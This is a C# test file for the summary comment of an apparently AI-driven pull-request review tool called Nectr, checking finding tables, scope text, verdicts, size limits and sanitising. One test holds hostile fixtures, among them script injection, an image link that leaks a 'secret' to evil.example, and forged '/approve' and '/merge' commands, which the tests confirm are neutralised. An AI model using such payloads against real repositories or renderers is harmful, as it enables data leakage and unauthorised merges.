using System.Text.RegularExpressions;
using Nectr.Engine.Findings;
using Nectr.Engine.Living;
using Nectr.Engine.Review;

namespace Nectr.Engine.Tests.Living;

public sealed partial class StickySummaryTests
{
    private const string Owner = "octo";
    private const string Repo = "app";
    private const string Head = "0123456789abcdef0123456789abcdef01234567";
    private const string From = "abc1234def5678abc1234def5678abc1234def56";

    private static ReviewRequest Request() =>
        new(Owner, Repo, 7, "Add a cache", Head, 42, [], 3, ReviewSettings.Default);

    private static ReviewResult Result(string? overview = "Adds a cache in front of the store.", string? model = "claude-test") =>
        new("body", [], [], [], new Coverage(3, 2, [new SkippedFile("package-lock.json", "lock file")]))
        {
            Verdict = Verdict.RequestChanges,
            VerdictReason = "1 critical finding(s) must be addressed",
            Model = model,
            Usage = model is null ? LlmUsage.None : new LlmUsage(2, 12_345, 678, 0.0421m),
            Overview = overview,
        };

    private static SummaryInput Input(
        IReadOnlyList<TrackedFinding>? findings = null, ReviewScope scope = ReviewScope.Full, string? fromSha = null,
        IReadOnlyList<string>? notices = null, ReviewResult? result = null) =>
        new(Request(), result ?? Result(), scope, fromSha, findings ?? [], notices ?? []);

    private static TrackedFinding Tracked(string title, TrackedStatus status, Severity severity = Severity.High, string file = "src/cache.cs", int line = 10, bool inline = true) =>
        new("fp-" + title, severity, file, line, title, status, inline);

    [Fact]
    public void Every_status_is_shown_and_resolved_findings_are_struck_through_after_the_open_ones()
    {
        var body = StickySummary.Render(Input(
        [
            Tracked("Fixed leak", TrackedStatus.Resolved, Severity.Critical),
            Tracked("Old race", TrackedStatus.StillOpen, Severity.Low, line: 30),
            Tracked("Null deref", TrackedStatus.New, Severity.High, line: 20),
            Tracked("Unanchored note", TrackedStatus.New, Severity.Medium, file: "README.md", line: 0, inline: false),
        ]));

        Assert.Contains("**3 open** (2 new, 1 still open) · 1 resolved", body, StringComparison.Ordinal);
        var nullDeref = Row(body, "Null deref");
        var unanchored = Row(body, "Unanchored note");
        var oldRace = Row(body, "Old race");
        var fixedLeak = Row(body, "Fixed leak");
        Assert.Equal("| 🟠 High | 🆕 new | `src/cache.cs:20` | Null deref |", nullDeref);
        Assert.Equal("| 🟡 Medium | 🆕 new (not inline) | `README.md` | Unanchored note |", unanchored);
        Assert.Equal("| 🔵 Low | still open | `src/cache.cs:30` | Old race |", oldRace);
        Assert.Equal("| 🔴 Critical | ✅ resolved | `src/cache.cs:10` | ~~Fixed leak~~ |", fixedLeak);
        // Open ones by severity, then resolved ones, even a resolved critical after an open low.
        Assert.True(body.IndexOf(nullDeref, StringComparison.Ordinal) < body.IndexOf(unanchored, StringComparison.Ordinal));
        Assert.True(body.IndexOf(unanchored, StringComparison.Ordinal) < body.IndexOf(oldRace, StringComparison.Ordinal));
        Assert.True(body.IndexOf(oldRace, StringComparison.Ordinal) < body.IndexOf(fixedLeak, StringComparison.Ordinal));
    }

    [Fact]
    public void New_findings_come_before_still_open_ones_of_the_same_severity()
    {
        var body = StickySummary.Render(Input([Tracked("Seen before", TrackedStatus.StillOpen, file: "a.cs"), Tracked("Just found", TrackedStatus.New, file: "z.cs")]));

        Assert.True(body.IndexOf("Just found", StringComparison.Ordinal) < body.IndexOf("Seen before", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData(ReviewScope.Full, null, "**Scope:** full review of the pull request.")]
    [InlineData(ReviewScope.Incremental, From, "**Scope:** incremental since `abc1234`: only the changes pushed after it were reviewed.")]
    [InlineData(ReviewScope.FullAfterRewrite, From, "**Scope:** full review: the branch was rewritten (force-push or rebase) since `abc1234`, so there was no range to review incrementally.")]
    [InlineData(ReviewScope.FullAfterRewrite, null, "**Scope:** full review: the branch was rewritten (force-push or rebase), so there was no range to review incrementally.")]
    [InlineData(ReviewScope.FullRequested, null, "**Scope:** full review requested: the whole pull request was reviewed again.")]
    public void The_scope_says_what_was_reviewed(ReviewScope scope, string? fromSha, string expected)
    {
        var body = StickySummary.Render(Input(scope: scope, fromSha: fromSha));

        Assert.Contains(expected + "\n", body, StringComparison.Ordinal);
    }

    [Fact]
    public void Verdict_overview_coverage_usage_last_commit_and_commands_are_shown()
    {
        var body = StickySummary.Render(Input([Tracked("Null deref", TrackedStatus.New)]));

        Assert.StartsWith(StickySummary.Marker + "\n## Nectr summary\n\n**Verdict: request changes** — 1 critical finding(s) must be addressed\n", body, StringComparison.Ordinal);
        Assert.Contains("### Overview\n\nAdds a cache in front of the store.\n", body, StringComparison.Ordinal);
        Assert.Contains($"**Last reviewed commit:** `{Head}`", body, StringComparison.Ordinal);
        Assert.Contains("### Coverage\n\nReviewed 2 of 3 files; skipped: `package-lock.json` (lock file).", body, StringComparison.Ordinal);
        Assert.Contains("<sub>Reviewed by `claude-test` and the built-in checks", body, StringComparison.Ordinal);
        Assert.Contains("2 model calls · 12,345 input + 678 output tokens · $0.0421", body, StringComparison.Ordinal);
        Assert.Contains("`@nectr help`", body, StringComparison.Ordinal);
        Assert.Contains("`@nectr full review`", body, StringComparison.Ordinal);
    }

    [Fact]
    public void Without_a_model_there_is_no_overview_and_the_verdict_says_only_the_built_in_checks_ran()
    {
        var result = Result(overview: null, model: null) with { };
        result = result with { Verdict = Verdict.Approve, VerdictReason = "no findings" };

        var body = StickySummary.Render(Input(result: result));

        Assert.DoesNotContain("### Overview", body, StringComparison.Ordinal);
        Assert.Contains("no model reviewed this change", body, StringComparison.Ordinal);
        Assert.Contains("<sub>Reviewed by the built-in checks", body, StringComparison.Ordinal);
        Assert.Contains("### Findings\n\nNo findings.\n", body, StringComparison.Ordinal);
    }

    [Fact]
    public void The_command_handle_is_the_configured_one_and_cannot_inject_markup()
    {
        Assert.Contains("`@reviewbot help`", StickySummary.Render(Input(), "@reviewbot"), StringComparison.Ordinal);
        Assert.Contains("`@nectr help`", StickySummary.Render(Input(), "`<img src=x>`"), StringComparison.Ordinal);
    }

    [Fact]
    public void Notices_are_listed_one_cleaned_line_each()
    {
        var body = StickySummary.Render(Input(notices:
        [
            ".nectr.yml is invalid: severity_threshold must be one of critical, high, medium, low, nit; the defaults were used.",
            "Reviews paused by @octocat\n/approve",
            "GitHub refused 2 inline comments; they are listed here.",
        ]));

        Assert.Contains("### Notices\n\n- .nectr.yml is invalid: severity_threshold must be one of critical, high, medium, low, nit; the defaults were used.\n", body, StringComparison.Ordinal);
        Assert.Contains("- GitHub refused 2 inline comments; they are listed here.\n", body, StringComparison.Ordinal);
        var paused = body.Split('\n').Single(l => l.StartsWith("- Reviews paused by", StringComparison.Ordinal));
        Assert.DoesNotMatch(Mention(), paused);
        Assert.DoesNotContain("\n/", body, StringComparison.Ordinal);
    }

    [Fact]
    public void Hostile_titles_paths_overview_and_notices_cannot_mention_command_inject_html_or_forge_the_marker()
    {
        string[] hostile =
        [
            "cc @octocat and @octo/security-team",
            "<img src=\"https://evil.example/x.png\"> <script>alert(1)</script>",
            "\n/approve\n/merge now",
            "/label bug",
            "a | b | c ~~ends~~ | @admin",
            StickySummary.Marker,
            "<!-- nectr:review head=deadbeef job=1 -->",
            "![pixel](https://evil.example/p.gif?d=secret) [x](https://evil.example)",
        ];
        var findings = hostile.SelectMany((t, i) => new[]
        {
            Tracked(t, TrackedStatus.New, file: "src/@admin/" + t, line: i + 1),
            Tracked(t, TrackedStatus.Resolved, file: "/etc/" + t, line: i + 1),
        }).ToList();
        var result = Result(overview: string.Join("\n", hostile)) with { Model = "model @octocat" };

        var body = StickySummary.Render(Input(findings, notices: hostile, result: result));

        Assert.True(StickySummary.IsSummary(body));
        Assert.Single(Regex.Matches(body, "nectr:summary", RegexOptions.IgnoreCase));
        Assert.DoesNotContain("nectr:review", body, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain(body.Split('\n'), line => line.TrimStart(' ', '\t').StartsWith('/'));
        var prose = OutsideCode(body);
        Assert.DoesNotMatch(Mention(), prose);
        Assert.DoesNotMatch(RawHtml(), prose.Replace("<sub>", "", StringComparison.Ordinal).Replace("</sub>", "", StringComparison.Ordinal).Replace(StickySummary.Marker, "", StringComparison.Ordinal));
        Assert.DoesNotContain("https://evil.example", prose, StringComparison.Ordinal);
        Assert.DoesNotContain("![", prose, StringComparison.Ordinal);
        // Every table row keeps its four cells: a pipe in a title or path is escaped.
        Assert.All(body.Split('\n').Where(l => l.StartsWith("| ", StringComparison.Ordinal)), row => Assert.Equal(5, UnescapedPipe().Count(row)));
    }

    [Fact]
    public void Five_thousand_findings_fit_in_one_GitHub_comment_with_the_rest_counted()
    {
        var severities = Enum.GetValues<Severity>();
        var statuses = Enum.GetValues<TrackedStatus>();
        var findings = Enumerable.Range(0, 5000)
            .Select(i => Tracked($"Finding {i} " + new string('x', 300), statuses[i % 3], severities[i % 5], $"src/{new string('d', 200)}/file{i}.cs", i + 1))
            .ToList();

        var body = StickySummary.Render(Input(findings, notices: Enumerable.Repeat(new string('n', 2000), 50).ToList()));

        Assert.True(body.Length < 65_536, $"{body.Length} characters");
        Assert.True(StickySummary.IsSummary(body));
        Assert.Single(Regex.Matches(body, Regex.Escape(StickySummary.Marker)));
        Assert.Contains("**3,334 open** (1,667 new, 1,667 still open) · 1,666 resolved", body, StringComparison.Ordinal);
        Assert.Contains("| | | | … and 652 more open critical findings |", body, StringComparison.Ordinal);
        Assert.Contains("| | | | … and 328 more resolved nit findings |", body, StringComparison.Ordinal);
        Assert.Contains("`@nectr help`", body, StringComparison.Ordinal);
        Assert.Contains("### Coverage", body, StringComparison.Ordinal);
    }

    [Fact]
    public void Five_thousand_findings_whose_titles_expand_when_cleaned_still_fit()
    {
        var findings = Enumerable.Range(0, 5000)
            .Select(i => Tracked(string.Concat(Enumerable.Repeat("<@a|", 60)), TrackedStatus.New, Severity.Critical, string.Concat(Enumerable.Repeat("|`<", 60)), i))
            .ToList();

        var body = StickySummary.Render(Input(findings, result: Result(overview: string.Concat(Enumerable.Repeat("<b>@x</b>\n", 20_000)))));

        Assert.True(body.Length < 65_536, $"{body.Length} characters");
        Assert.True(StickySummary.IsSummary(body));
        Assert.Contains("`@nectr help`", body, StringComparison.Ordinal);
    }

    [Fact]
    public void Only_a_body_that_starts_with_the_marker_is_a_summary()
    {
        Assert.True(StickySummary.IsSummary(StickySummary.Render(Input())));
        Assert.True(StickySummary.IsSummary(StickySummary.Marker));
        Assert.False(StickySummary.IsSummary(null));
        Assert.False(StickySummary.IsSummary(""));
        Assert.False(StickySummary.IsSummary("> " + StickySummary.Marker + "\nthis is how Nectr finds it"));
        Assert.False(StickySummary.IsSummary("Look:\n" + StickySummary.Marker));
        Assert.False(StickySummary.IsSummary(ReviewMarker.For(Head, 1)));
    }

    [Fact]
    public void Model_text_carrying_the_summary_marker_is_broken_by_output_hygiene()
    {
        var cleaned = OutputHygiene.Clean("`" + StickySummary.Marker + "`\n```\n" + StickySummary.Marker + "\n```", Owner, Repo);

        Assert.DoesNotContain("nectr:summary", cleaned, StringComparison.Ordinal);
        Assert.DoesNotContain("nectr:summary", OutputHygiene.InlineCode(StickySummary.Marker), StringComparison.Ordinal);
    }

    [Fact]
    public void The_engine_keeps_the_cleaned_model_summary_as_the_overview()
    {
        var engine = new ReviewEngine();
        var prepared = engine.Prepare(Request());
        var answer = new ModelAnswer("Adds a cache. cc @octocat <img src=x>", [], [], 4);

        var withModel = ReviewEngine.Finish(prepared, new AiOutcome("m", answer, [], [], LlmUsage.None));
        var builtIn = ReviewEngine.Finish(prepared, ai: null);

        Assert.NotNull(withModel.Overview);
        Assert.StartsWith("Adds a cache.", withModel.Overview, StringComparison.Ordinal);
        Assert.DoesNotMatch(Mention(), withModel.Overview);
        Assert.DoesNotContain("<img", withModel.Overview, StringComparison.Ordinal);
        Assert.Null(builtIn.Overview);
    }

    private static string Row(string body, string title) =>
        body.Split('\n').Single(l => l.StartsWith("| ", StringComparison.Ordinal) && l.Contains(title, StringComparison.Ordinal));

    /// <summary>The text without inline code spans, where GitHub neither renders nor notifies.</summary>
    private static string OutsideCode(string markdown) => CodeSpan().Replace(markdown, "");

    [GeneratedRegex(@"(?<![\w`])@[A-Za-z0-9]")]
    private static partial Regex Mention();

    [GeneratedRegex(@"<[A-Za-z!/]")]
    private static partial Regex RawHtml();

    [GeneratedRegex(@"`[^`\n]*`")]
    private static partial Regex CodeSpan();

    [GeneratedRegex(@"(?<!\\)\|")]
    private static partial Regex UnescapedPipe();
}
